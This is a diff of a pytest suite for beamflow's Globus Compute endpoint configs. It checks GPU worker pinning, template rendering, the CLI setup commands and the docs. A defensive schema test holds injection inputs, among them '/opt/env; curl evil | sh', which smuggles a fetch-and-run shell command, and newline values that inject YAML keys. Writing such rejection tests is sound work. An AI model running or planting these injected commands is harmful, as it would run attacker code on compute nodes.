@@ -1,103 +1,218 @@
-"""deploy/compute-endpoint: the Globus Compute endpoint configs parse and hold what
-GlobusComputeEngine (Parsl's HighThroughputExecutor) and the Parsl providers accept, with
-one worker pinned to each GPU and an environment with beamflow activated on the nodes."""
+"""deploy/compute-endpoint: every config loads with globus-compute-endpoint's own loader,
+and each multi-user template, rendered with its example variables exactly as the endpoint
+renders it, loads too; one worker pinned to each GPU, an environment with beamflow on the
+nodes, and no address that depends on a network interface's name."""
 
 from __future__ import annotations
 
+import json
+import os
+import subprocess
+import sys
 from pathlib import Path
 
+import jsonschema
 import pytest
-import yaml
+from endpoint_kit import DEPLOY, core_config, example, render_user_config, user_config
+from globus_compute_endpoint.endpoint.config import CoreEndpointConfig, UserEndpointConfig
+from globus_compute_endpoint.endpoint.config.utils import get_config, load_config_yaml
+from globus_compute_endpoint.engines import GlobusComputeEngine
+from parsl.launchers import MpiExecLauncher, SrunLauncher
+from parsl.providers import LocalProvider, PBSProProvider, SlurmProvider
 
-DEPLOY = Path(__file__).resolve().parent.parent / "deploy"
-CONFIGS = sorted((DEPLOY / "compute-endpoint").glob("*/config.yaml"))
-
-# Top-level keys of a globus-compute-endpoint config (UserEndpointConfigModel).
-ENDPOINT_KEYS = {
-    "display_name", "engine", "amqp_port", "heartbeat_period", "heartbeat_threshold",
-    "idle_heartbeats_soft", "idle_heartbeats_hard", "detach_endpoint", "endpoint_setup",
-    "endpoint_teardown", "log_dir", "stdout", "stderr", "allowed_functions",
-    "authentication_policy", "subscription_id", "environment", "debug", "multi_user",
-}  # fmt: skip
-# GlobusComputeEngine's own options plus those it passes to HighThroughputExecutor.
-ENGINE_KEYS = {
-    "type", "provider", "address", "strategy", "max_workers_per_node",
-    "available_accelerators", "cpu_affinity", "max_retries_on_system_failure",
-    "worker_debug", "cores_per_worker", "mem_per_worker", "prefetch_capacity",
-    "heartbeat_period", "heartbeat_threshold", "job_status_kwargs", "run_in_sandbox",
-    "working_dir", "encrypted", "label",
-}  # fmt: skip
-PROVIDER_KEYS = {
-    "PBSProProvider": {
-        "account", "queue", "scheduler_options", "select_options", "worker_init",
-        "nodes_per_block", "cpus_per_node", "init_blocks", "min_blocks", "max_blocks",
-        "parallelism", "launcher", "walltime", "cmd_timeout",
-    },
-    "SlurmProvider": {
-        "partition", "account", "qos", "constraint", "nodes_per_block", "cores_per_node",
-        "mem_per_node", "init_blocks", "min_blocks", "max_blocks", "parallelism", "walltime",
-        "scheduler_options", "regex_job_id", "worker_init", "cmd_timeout", "exclusive",
-        "launcher",
-    },
-    "LocalProvider": {
-        "nodes_per_block", "launcher", "init_blocks", "min_blocks", "max_blocks",
-        "worker_init", "cmd_timeout", "parallelism",
-    },
-}  # fmt: skip
-LAUNCHERS = {"MpiExecLauncher", "SrunLauncher", "SingleNodeLauncher", "SimpleLauncher"}
+ROOT = DEPLOY.parents[1]
+CLUSTERS = ["pbspro-gpu", "slurm-gpu"]
+KINDS = [*CLUSTERS, "workstation"]
+FILES_OF_A_KIND = {
+    "config.yaml",
+    "user_config_template.yaml.j2",
+    "user_config_schema.json",
+    "example.json",
+}
 
 
-def load(path: Path) -> dict:
-    data = yaml.safe_load(path.read_text())
-    assert isinstance(data, dict), f"{path}: not a mapping"
-    return data
+# Globus identities user@example.org run as the local account "user" (Globus Connect
+# Server's expression mapping format, which the endpoint reads).
+IDENTITY_MAPPING = {
+    "DATA_TYPE": "expression_identity_mapping#1.0.0",
+    "mappings": [{"source": "{username}", "match": "(.*)@example\\.org", "output": "{0}"}],
+}
+
+
+@pytest.fixture
+def loaded():
+    """Configs loaded in a test; their engines (built, never started) are shut down after."""
+    configs: list[UserEndpointConfig] = []
+    yield configs
+    for config in configs:
+        config.engine.shutdown()
 
 
 def test_the_three_kinds_are_there():
-    assert {p.parent.name for p in CONFIGS} == {"pbspro-gpu", "slurm-gpu", "workstation"}
+    assert {p.name for p in DEPLOY.iterdir() if p.is_dir()} == set(KINDS)
+    for name in KINDS:
+        assert {p.name for p in (DEPLOY / name).iterdir()} == FILES_OF_A_KIND, name
 
 
-@pytest.mark.parametrize("path", CONFIGS, ids=lambda p: p.parent.name)
-def test_endpoint_config_has_the_keys_the_endpoint_accepts(path):
-    config = load(path)
-    assert set(config) <= ENDPOINT_KEYS, set(config) - ENDPOINT_KEYS
-    engine = config["engine"]
-    assert engine["type"] == "GlobusComputeEngine"
-    assert set(engine) <= ENGINE_KEYS, set(engine) - ENGINE_KEYS
-    provider = engine["provider"]
-    allowed = PROVIDER_KEYS[provider["type"]]
-    assert set(provider) - {"type"} <= allowed, set(provider) - {"type"} - allowed
-    if "launcher" in provider:
-        assert provider["launcher"]["type"] in LAUNCHERS
-    if "walltime" in provider:  # unquoted 01:00:00 would be YAML 1.1 sexagesimal: an int
-        assert isinstance(provider["walltime"], str)
-    assert provider["min_blocks"] <= provider["init_blocks"] or provider["init_blocks"] == 0
-    assert provider["max_blocks"] >= 1
+@pytest.mark.parametrize("name", KINDS)
+def test_config_is_an_endpoint_that_start_accepts(name):
+    """`globus-compute-endpoint start` (4.19) refuses a config.yaml with an `engine`:
+    the engine lives in the template, config.yaml loads as the (multi-user) endpoint."""
+    config = get_config(DEPLOY / name)
+    assert isinstance(config, CoreEndpointConfig)
+    assert core_config(DEPLOY / name) is not None
+    assert config.amqp_port == 443
+    assert config.display_name and "beamflow" in config.display_name
 
 
-@pytest.mark.parametrize("path", CONFIGS, ids=lambda p: p.parent.name)
-def test_one_worker_per_gpu_in_an_environment_with_beamflow(path):
-    engine = load(path)["engine"]
-    gpus = engine["available_accelerators"]
-    count = gpus if isinstance(gpus, int) else len(gpus)
-    assert engine["max_workers_per_node"] == count
-    init = engine["provider"]["worker_init"]
-    assert "activate" in init and "beamflow" in init
+def test_workstation_template_renders_one_worker_per_gpu(loaded):
+    opts = example(DEPLOY / "workstation")
+    config = user_config(DEPLOY / "workstation", opts)
+    loaded.append(config)
+    engine = config.engine
+    assert isinstance(engine, GlobusComputeEngine)
+    htex = engine.executor
+    assert isinstance(htex.provider, LocalProvider)
+    assert htex.max_workers_per_node == len(htex.available_accelerators) == opts["gpus"]
+    assert htex.address is None  # Parsl offers every address of the host
+    assert f'source "{opts["beamflow_env"]}"/bin/activate' in htex.provider.worker_init
+    cpu = user_config(DEPLOY / "workstation", {"gpus": 0, "cpu_workers": 3})
+    loaded.append(cpu)
+    assert cpu.engine.executor.max_workers_per_node == 3
+    assert cpu.engine.executor.available_accelerators == []
 
 
-def test_cluster_configs_ask_the_scheduler_for_the_gpus_they_pin():
-    pbs = load(DEPLOY / "compute-endpoint/pbspro-gpu/config.yaml")["engine"]
-    assert pbs["available_accelerators"] == 4
-    assert "ngpus=4" in pbs["provider"]["select_options"]
-    slurm = load(DEPLOY / "compute-endpoint/slurm-gpu/config.yaml")["engine"]
-    assert slurm["available_accelerators"] == 4
-    assert "--gpus-per-node=4" in slurm["provider"]["scheduler_options"]
+@pytest.mark.parametrize("name", CLUSTERS)
+def test_template_renders_with_its_example_and_loads(name, loaded):
+    opts = example(DEPLOY / name)
+    config = user_config(DEPLOY / name, opts)
+    loaded.append(config)
+    assert config.amqp_port == 443
+    assert config.idle_heartbeats_soft > 0  # idle users give their nodes back
+    engine = config.engine
+    assert isinstance(engine, GlobusComputeEngine)
+    htex = engine.executor
+    gpus = opts["gpus_per_node"]
+    assert htex.max_workers_per_node == gpus
+    assert htex.available_accelerators == [str(i) for i in range(gpus)]
+    assert htex.address is None
+    assert engine.max_retries_on_system_failure == 1
+    provider = htex.provider
+    assert provider.walltime == opts["walltime"]
+    assert provider.max_blocks == opts["max_blocks"]
+    assert provider.init_blocks == provider.min_blocks == 0
+    assert f'source "{opts["beamflow_env"]}"/bin/activate' in provider.worker_init
+    assert f"OMP_NUM_THREADS={opts['omp_threads']}" in provider.worker_init
+    if name == "slurm-gpu":
+        assert isinstance(provider, SlurmProvider)
+        assert (provider.partition, provider.account) == (opts["partition"], opts["account"])
+        assert f"#SBATCH --gpus-per-node={gpus}" in provider.scheduler_options
+        assert isinstance(provider.launcher, SrunLauncher)
+        assert "--ntasks-per-node=1" in provider.launcher.overrides
+    else:
+        assert isinstance(provider, PBSProProvider)
+        assert (provider.queue, provider.account) == (opts["queue"], opts["account"])
+        assert f"ngpus={gpus}" in provider.select_options
+        assert f"filesystems={opts['filesystems']}" in provider.scheduler_options
+        assert isinstance(provider.launcher, MpiExecLauncher)
+        assert f"--depth={opts['cpus_per_node']} --ppn 1" in provider.launcher.overrides
+
+
+@pytest.mark.parametrize("name", KINDS)
+def test_template_loads_with_no_variables(name, loaded):
+    """beamflow's flows send no user_endpoint_config: the site's defaults apply."""
+    config = user_config(DEPLOY / name, {})
+    loaded.append(config)
+    htex = config.engine.executor
+    gpus = 2 if name == "workstation" else 4
+    assert htex.max_workers_per_node == len(htex.available_accelerators) == gpus
+    assert 'source "$HOME/beamflow-env"/bin/activate' in htex.provider.worker_init
+    if name != "workstation":
+        assert htex.provider.walltime == "01:00:00"
+
+
+def test_slurm_template_on_cpu_nodes_asks_for_no_gpu(loaded):
+    config = user_config(DEPLOY / "slurm-gpu", {"gpus_per_node": 0, "cpu_workers_per_node": 2})
+    loaded.append(config)
+    htex = config.engine.executor
+    assert htex.max_workers_per_node == 2
+    assert htex.available_accelerators == []
+    assert "gpus" not in htex.provider.scheduler_options
+    assert "gpus" not in htex.provider.launcher.overrides
+
+
+@pytest.mark.parametrize(
+    ("name", "opts"),
+    [
+        ("slurm-gpu", {"partition": "gpu\nengine: {type: ThreadPoolEngine}"}),
+        ("slurm-gpu", {"beamflow_env": "/opt/env; curl evil | sh"}),
+        ("slurm-gpu", {"gpus_per_node": "4"}),
+        ("slurm-gpu", {"walltime": "1 hour"}),
+        ("slurm-gpu", {"nodes": 8}),
+        ("pbspro-gpu", {"filesystems": 'home"\nengine: x'}),
+        ("pbspro-gpu", {"gpus_per_node": 0}),
+        ("pbspro-gpu", {"beamflow_env": "relative/env"}),
+        ("workstation", {"beamflow_env": '/opt/env"\nexport X=1'}),
+        ("workstation", {"gpus": -1}),
+    ],
+)
+def test_schema_refuses_what_could_break_the_config_or_the_shell(name, opts):
+    with pytest.raises(jsonschema.ValidationError):
+        render_user_config(DEPLOY / name, opts)
+
+
+FILES = sorted(p for p in DEPLOY.rglob("*") if p.is_file())
+
+
+@pytest.mark.parametrize("path", FILES, ids=lambda p: str(p.relative_to(DEPLOY)))
+def test_no_config_names_a_network_interface(path: Path):
+    """A config must not name an interface that may not exist on the login node."""
+    for line in path.read_text().splitlines():
+        if line.lstrip().startswith("#"):
+            continue
+        assert "address_by_interface" not in line, f"{path}: {line}"
+
+
+@pytest.mark.parametrize("name", KINDS)
+def test_the_documented_configure_and_render_commands_work(name, tmp_path, loaded):
+    """docs/deployment.md's commands, run with the endpoint's own CLI into a scratch
+    GLOBUS_COMPUTE_USER_DIR (offline: configure and render-user-config need no login)."""
+    env = {**os.environ, "HOME": str(tmp_path), "GLOBUS_COMPUTE_USER_DIR": str(tmp_path / "gc")}
+    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
+    kind = DEPLOY / name
+    configure = ["globus-compute-endpoint", "configure", "beamflow"]
+    if name == "workstation":
+        configure += ["--multi-user", "false"]
+    else:
+        mapping = tmp_path / "identity-mapping.json"
+        mapping.write_text(json.dumps([IDENTITY_MAPPING]))
+        configure += ["--multi-user", "true", "--contact-email", "ops@example.org"]
+        configure += ["--id-mapping-config", str(mapping)]
+    configure += ["--core-config", str(kind / "config.yaml")]
+    configure += ["--template-config", str(kind / "user_config_template.yaml.j2")]
+    configure += ["--schema-config", str(kind / "user_config_schema.json")]
+    done = subprocess.run(configure, env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    endpoint_dir = tmp_path / "gc" / "beamflow"
+    config = core_config(endpoint_dir)
+    if name != "workstation":  # what `start` checks of a multi-user endpoint run as root
+        assert config.email == "ops@example.org"
+        assert config.identity_mapping_config_path == endpoint_dir / "identity_mapping_config.json"
+    render = ["globus-compute-endpoint", "render-user-config", "-e", "beamflow"]
+    render += ["-o", str(kind / "example.json")]
+    done = subprocess.run(render, env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == render_user_config(kind, example(kind)) + "\n"  # print()
+    rendered = load_config_yaml(done.stdout)
+    assert isinstance(rendered, UserEndpointConfig)
+    loaded.append(rendered)
 
 
 def test_guide_covers_every_config_and_the_setup_steps():
-    guide = (DEPLOY / "README.md").read_text()
-    for path in CONFIGS:
-        assert path.parent.name in guide
+    guide = (DEPLOY.parent / "README.md").read_text()
+    deployment = (ROOT / "docs" / "deployment.md").read_text()
+    for name in (*CLUSTERS, "workstation"):
+        assert name in guide and name in deployment, name
     for topic in (
         "native app",
         "confidential client",
@@ -107,5 +222,9 @@ def test_guide_covers_every_config_and_the_setup_steps():
         "beamflow doctor",
         "systemd",
         'pip install "beamflow[gpu]"',
+        "user_config_template.yaml.j2",
+        "--multi-user true",
     ):
         assert topic in guide, topic
+    for topic in ("render-user-config", "--id-mapping-config", "PBS Pro", "pytest -m slurm"):
+        assert topic in deployment, topic
